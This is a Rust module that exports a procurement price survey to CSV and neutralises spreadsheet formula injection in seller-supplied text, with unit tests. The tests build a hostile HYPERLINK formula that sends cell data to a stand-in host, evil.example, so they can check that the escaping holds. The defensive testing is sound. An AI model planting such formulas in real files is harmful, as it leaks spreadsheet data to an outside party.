//! The price survey as CSV: UTF-8 with a byte-order mark (so spreadsheets do not guess another
//! encoding), `;`-separated, one row per offer, amounts exact (no rounding, no thousands
//! separators). In Indonesian the decimal mark is `,`, as the spreadsheets that expect `;` read
//! it; in English it is `.`.
//!
//! Titles, vendor names and links come from sellers. A cell that starts with `=`, `+`, `-`, `@`,
//! tab or carriage return is a formula to a spreadsheet (`=HYPERLINK(…)` sends the sheet's data
//! away when clicked), so every text column is neutralised by OWASP's rule: such a cell gets a
//! leading `'`, which spreadsheets show as text. The choice is made per column, not per value:
//! amount columns are written by [`number`] from exact decimals and stay numbers.

use super::amounts;
use super::lang::Lang;
use super::survey::{Survey, unit_price};
use super::words;
use rust_decimal::Decimal;

const BOM: &str = "\u{feff}";

/// The CSV text of a survey.
pub fn render(survey: &Survey<'_>, lang: Lang) -> Result<String, csv::Error> {
    let mut out = csv::WriterBuilder::new().delimiter(b';').from_writer(Vec::new());
    out.write_record(header(lang))?;
    let amount = |d: Option<Decimal>| d.map(|d| number(d, lang)).unwrap_or_default();
    for product in &survey.products {
        for row in &product.rows {
            let (offer, price) = (row.offer, row.offer.price.as_ref());
            out.write_record([
                text(&product.title),
                text(row.marketplace),
                text(&offer.title),
                text(offer.url.as_deref().unwrap_or_default()),
                text(&offer.vendor.name),
                text(&row.facts.npwp.as_ref().map(|n| amounts::npwp(&n.value)).unwrap_or_default()),
                text(&words::vendor_place(offer, &row.facts, lang)),
                amount(price.map(|p| p.amount_including_vat)),
                amount(price.map(|p| p.amount_excluding_vat)),
                text(offer.unit.name.as_deref().unwrap_or_default()),
                offer.unit.quantity.map(|q| number(q, lang)).unwrap_or_default(),
                text(offer.unit.base_unit.as_deref().unwrap_or_default()),
                amount(unit_price(offer)),
                amount(offer.tkdn),
                amount(offer.bmp),
                text(&row.read_at),
                text(&offer.gateway_id()),
                text(&row.price_note(lang).unwrap_or_default()),
            ])?;
        }
    }
    for row in gaps(survey, lang) {
        out.write_record(row)?;
    }
    let bytes = out.into_inner().map_err(|e| e.into_error())?;
    Ok(format!("{BOM}{}", String::from_utf8_lossy(&bytes)))
}

/// Last rows for what the survey lacks, as the page and the workbook say it (review32w W32-7: a
/// CSV filed with an HPS looked complete): each marketplace that did not answer (marketplace and
/// why) and each chosen offer the comparison does not hold (its id). The first column says `Data
/// belum lengkap` / `Incomplete data`.
fn gaps(survey: &Survey<'_>, lang: Lang) -> Vec<[String; 18]> {
    let label = lang.pick("Data belum lengkap", "Incomplete data");
    let row = |marketplace: &str, said: String, id: &str| {
        let mut cells: [String; 18] = Default::default();
        (cells[0], cells[1], cells[2], cells[16]) = (label.to_string(), text(marketplace), text(&said), text(id));
        cells
    };
    let answered = lang.pick("Tidak menjawab: ", "Did not answer: ");
    let mut rows: Vec<[String; 18]> =
        survey.missing.iter().map(|(name, why)| row(name, format!("{answered}{why}"), "")).collect();
    let absent = lang.pick("Tidak ada di antara penawaran yang dibandingkan", "Not among the compared offers");
    rows.extend(survey.missing_offers.iter().map(|id| row("", absent.to_string(), id)));
    rows
}

/// The column names, shared with the workbook (`survey_xlsx.rs`).
pub(super) fn header(lang: Lang) -> [&'static str; 18] {
    match lang {
        Lang::Id => [
            "produk",
            "marketplace",
            "judul_penawaran",
            "tautan",
            "penyedia",
            "npwp",
            "wilayah_penyedia",
            "harga_termasuk_ppn",
            "harga_tanpa_ppn",
            "kemasan",
            "isi_kemasan",
            "satuan_dasar",
            "harga_satuan_termasuk_ppn",
            "tkdn_persen",
            "bmp_persen",
            "dibaca_pada",
            "id_penawaran",
            "catatan_harga",
        ],
        Lang::En => [
            "product",
            "marketplace",
            "offer_title",
            "link",
            "vendor",
            "npwp",
            "vendor_region",
            "price_including_ppn",
            "price_excluding_ppn",
            "pack",
            "pack_quantity",
            "base_unit",
            "unit_price_including_ppn",
            "tkdn_percent",
            "bmp_percent",
            "read_at",
            "offer_id",
            "price_note",
        ],
    }
}

/// Characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell a spreadsheet shows as text: a formula start gets a leading `'`.
pub(super) fn text(value: &str) -> String {
    if value.starts_with(FORMULA_START) { format!("'{value}") } else { value.to_string() }
}

/// The exact amount, trailing zeros dropped, in the language's decimal mark.
pub(super) fn number(value: Decimal, lang: Lang) -> String {
    let text = value.normalize().to_string();
    match lang {
        Lang::Id => text.replace('.', ","),
        Lang::En => text,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::Offer;
    use crate::web::survey::{Product, Row};

    /// Seller-controlled text that a spreadsheet would run, for one formula start.
    fn hostile(start: char, what: &str) -> String {
        format!("{start}HYPERLINK(\"https://evil.example/?d=\"&A2;\"{what}\")")
    }

    /// Every text column a seller fills, starting with every formula character.
    fn hostile_offers() -> Vec<Offer> {
        FORMULA_START
            .iter()
            .map(|&start| {
                let mut offer = Offer::sample("x");
                offer.title = hostile(start, "title");
                offer.url = Some(hostile(start, "url"));
                offer.vendor.name = hostile(start, "vendor");
                offer.vendor.npwp = Some(hostile(start, "npwp"));
                offer.unit.name = Some(hostile(start, "pack"));
                offer.unit.base_unit = Some(hostile(start, "unit"));
                offer.tkdn = Some(Decimal::new(4_512, 2));
                offer
            })
            .collect()
    }

    fn records(csv_text: &str) -> Vec<csv::StringRecord> {
        let body = csv_text.strip_prefix(BOM).expect("byte-order mark");
        let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(body.as_bytes());
        reader.records().map(|r| r.expect("a well-formed row")).collect()
    }

    /// A survey of one product per offer, titled `titles` in turn.
    fn survey_of<'a>(offers: &'a [Offer], titles: impl Iterator<Item = String>) -> Survey<'a> {
        let products = titles
            .zip(offers)
            .map(|(title, offer)| Product {
                title,
                rows: vec![Row {
                    offer,
                    facts: crate::search::VendorFacts::own(offer),
                    marketplace: "Mbizmarket",
                    read_at: "2026-12-01 11:32:00 WIB".into(),
                    uncounted: None,
                }],
                market: Default::default(),
                base_unit: None,
                selected: Default::default(),
                left_out: 0,
            })
            .collect();
        Survey {
            search: String::new(),
            region: None,
            products,
            searched: Vec::new(),
            missing: Vec::new(),
            made_at: String::new(),
            missing_offers: Vec::new(),
            partial: None,
            filters: None,
        }
    }

    #[test]
    fn no_text_cell_starts_a_formula_whatever_the_seller_wrote() {
        let offers = hostile_offers();
        let survey = survey_of(&offers, FORMULA_START.iter().map(|&start| hostile(start, "product")));
        let rows = records(&render(&survey, Lang::Id).expect("renders"));
        assert_eq!(rows.len(), FORMULA_START.len());
        let seller_columns = [0, 2, 3, 4, 5, 9, 11];
        for (row, &start) in rows.iter().zip(&FORMULA_START) {
            for column in seller_columns {
                let cell = &row[column];
                assert!(cell.starts_with('\'') && cell[1..].starts_with(start), "column {column}: {cell:?}");
            }
            assert!(row.iter().all(|cell| !cell.starts_with(FORMULA_START)), "{row:?}");
            assert_eq!(&row[7], "100000", "amounts stay numbers: {row:?}");
            assert_eq!(&row[13], "45,12", "{row:?}");
        }
    }

    #[test]
    fn the_last_rows_say_which_marketplaces_did_not_answer_and_which_chosen_offers_are_absent() {
        let survey = Survey {
            search: "kertas".into(),
            region: None,
            products: Vec::new(),
            searched: vec!["Mbizmarket", "PaDi UMKM"],
            missing: vec![("PaDi UMKM", "HTTP 503".into())],
            made_at: String::new(),
            missing_offers: vec!["mbiz:NOPE-1".into()],
            partial: None,
            filters: None,
        };
        let rows = records(&render(&survey, Lang::Id).expect("renders"));
        let said: Vec<Vec<&str>> = rows.iter().map(|r| vec![&r[0], &r[1], &r[2], &r[16]]).collect();
        assert_eq!(
            said,
            [
                vec!["Data belum lengkap", "PaDi UMKM", "Tidak menjawab: HTTP 503", ""],
                vec!["Data belum lengkap", "", "Tidak ada di antara penawaran yang dibandingkan", "mbiz:NOPE-1"],
            ]
        );
    }

    #[test]
    fn a_listing_sending_no_unit_field_leaves_the_pack_column_empty() {
        let offers = [Offer::sample("x")];
        let rows = records(&render(&survey_of(&offers, std::iter::once("Kertas".into())), Lang::Id).expect("renders"));
        assert_eq!((&rows[0][2], &rows[0][9]), ("x", ""), "{:?}", rows[0]);
    }

    #[test]
    fn only_a_formula_start_is_neutralised() {
        assert_eq!(text("Kertas HVS A4 =80gsm"), "Kertas HVS A4 =80gsm");
        assert_eq!(text("-5% diskon"), "'-5% diskon");
        assert_eq!(text("\r=1+1"), "'\r=1+1");
        assert_eq!(text("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(text(""), "");
    }

    #[test]
    fn amounts_keep_every_digit_and_use_the_languages_decimal_mark() {
        let amount = Decimal::new(12_345_678_905, 4);
        assert_eq!(number(amount, Lang::Id), "1234567,8905");
        assert_eq!(number(amount, Lang::En), "1234567.8905");
        assert_eq!(number(Decimal::new(15_000_000, 2), Lang::Id), "150000");
    }
}
